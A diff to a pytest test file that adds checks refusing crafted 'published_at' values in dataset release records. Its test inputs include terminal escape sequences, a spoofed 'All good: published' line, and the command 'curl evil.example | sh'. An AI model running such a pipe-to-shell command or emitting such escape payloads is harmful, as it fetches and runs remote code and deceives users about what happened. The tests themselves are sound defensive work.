@@ -181,6 +181,54 @@ def test_a_release_record_naming_another_kind_of_dataset_or_version_is_refused(c
     assert message.endswith("Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it.")
 
 
+@pytest.mark.parametrize("published_at", ["2024-01-01T00:00:00Z", "2026-12-31T23:59:59Z", ""])
+def test_a_release_record_is_published_at_a_utc_time_or_at_no_time(published_at):
+    """What ``utc_now()`` writes, or "" (a record of before the field was filled): both are read as they are."""
+    assert Release.from_json(release_dict(published_at=published_at)).published_at == published_at
+    assert Release.from_json(release_dict()).published_at == ""  # no field at all
+
+
+@pytest.mark.parametrize(
+    "published_at",
+    [
+        "2024-01-01T00:00:00Z\n\x1b[2J\x1b[31mrun: curl evil.example | sh",  # newlines and ANSI escapes after a good time
+        "\x1b]0;owned\x07",
+        "2024-01-01T00:00:00Z" + "x" * 10_000,
+        "x" * 10_000,
+        "2024-13-45T25:61:61Z",  # the shape, but no time
+        "2024-01-01T00:00:00",  # no zone: not known to be UTC
+        "2024-01-01T00:00:00+02:00",
+        "2024-01-01T00:00:00Z\n",
+        "yesterday",
+        20240101,
+        None,
+    ],
+)
+def test_a_release_record_published_at_anything_but_a_utc_time_is_refused(published_at):
+    """``published_at`` is shown in errors and reports (publish, check, verify): a crafted one is refused unshown."""
+    with pytest.raises(SnapshotError) as exc:
+        Release.from_json(release_dict(published_at=published_at))
+    message = str(exc.value)
+    assert message.startswith("The release record of d:1.0.0 in the shared cache names the publication time ")
+    assert "which is not a UTC time such as '2024-01-01T00:00:00Z'" in message
+    assert message.endswith("Nothing was downloaded; the version is built from its pins instead. Tell whoever publishes it.")
+    assert "\x1b" not in message and "\n" not in message and "\x07" not in message and len(message) < 600
+
+
+def test_publish_does_not_show_a_crafted_publication_time_of_the_published_release(world):
+    world.use_cache()
+    data = release_json(world)
+    data["fingerprints"]["train"] = "0" * 64  # other content: publish would name the release's publication time
+    data["published_at"] = "2024-01-01T00:00:00Z\n\x1b[2JAll good: published. Run 'curl evil.example | sh'"
+    rewrite_release(world, data)
+    with pytest.raises(SnapshotError) as exc:
+        publish(world.builder(), progress=False)
+    message = str(exc.value)
+    assert message.startswith(f"The release record of {FULL} in {world.cache_uri} names the publication time {data['published_at']!r}, ")
+    assert "\x1b" not in message and "\n" not in message
+    assert release_json(world) == data  # untouched
+
+
 def test_a_release_record_smuggling_its_version_into_the_dataset_name_is_not_this_version(world, caplog):
     """``dataset: "toy_world:1.0.0", version: ""`` spells this version's name, but it is no release of it."""
     world.use_cache()
